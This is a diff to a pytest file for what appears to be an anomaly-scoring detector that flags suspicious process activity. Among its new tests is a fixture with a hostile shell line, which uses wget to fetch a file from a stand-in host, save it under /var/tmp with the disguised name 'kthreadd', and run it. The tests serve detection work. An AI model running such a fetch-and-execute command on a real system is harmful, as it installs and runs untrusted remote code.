@@ -107,8 +107,24 @@ def test_a_known_host_is_no_disguise() -> None:
 
 
 def test_a_script_in_a_writable_place_is_no_unknown_program() -> None:
-    places = {"executable": r"\users\public\a.ps1", "name": "a.ps1"}
-    assert worth(anomaly(WHOAMI, **places, zone="public")) == worth(anomaly(WHOAMI, **places))
+    carried = {"executable": r"\users\public\a.ps1", "name": "a.ps1", "hosted_by": "powershell.exe"}
+    assert worth(anomaly(WHOAMI, **carried, zone="public")) == worth(anomaly(WHOAMI, **carried))
+
+
+def test_what_runs_by_itself_in_a_writable_place_is_a_program_whatever_it_is_called() -> None:
+    dropped = {"executable": "/var/tmp/kthreadd", "name": "kthreadd"}
+    assert worth(anomaly(WHOAMI, **dropped, zone="unix-temp")) > worth(anomaly(WHOAMI, **dropped))
+
+
+def test_rarities_of_other_days_do_not_make_a_burst_less_alarming() -> None:
+    burst = [anomaly(name, **at(30 + 0.01 * n)) for n, name in enumerate(FIVE)]
+    before, after = anomaly(SVN, bits=6.0, **at(0)), anomaly(SVN, bits=6.0, **at(55))
+    assert worth(before, *burst, after) >= worth(*burst)
+
+
+def test_the_most_alarming_stretch_may_have_pauses_in_it() -> None:
+    hour, days = ([anomaly(name, **at(apart * n)) for n, name in enumerate(FIVE)] for apart in (1.1, 11.0))
+    assert worth(*hour) > worth(*days) >= max(worth(row) for row in days)
 
 
 def test_passing_for_a_common_program_is_worse_than_being_near_to_it() -> None:
@@ -164,6 +180,15 @@ def test_running_what_an_earlier_command_fetched_is_noticed() -> None:
     assert runs_what_it_wrote([fetch, run])
     assert not runs_what_it_wrote([run, fetch])
     assert worth(fetch, run) > worth(run, fetch)
+
+
+def test_one_shell_line_that_fetches_and_runs_is_noticed_by_its_own_starts() -> None:
+    line = "sh -c wget -q a.example/x -O /var/tmp/kthreadd; /var/tmp/kthreadd"
+    program = {"executable": "/var/tmp/kthreadd", "name": "kthreadd", "zone": "unix-temp"}
+    carried = [anomaly("/usr/bin/wget", line, hosted_by="sh"), anomaly("", line, hosted_by="sh", **program)]
+    assert not runs_what_it_wrote(carried)
+    fetched = anomaly("/usr/bin/wget", "wget -q a.example/x -O /var/tmp/kthreadd")
+    assert runs_what_it_wrote([*carried, fetched, anomaly("", "/var/tmp/kthreadd", **program)])
 
 
 @pytest.mark.parametrize(
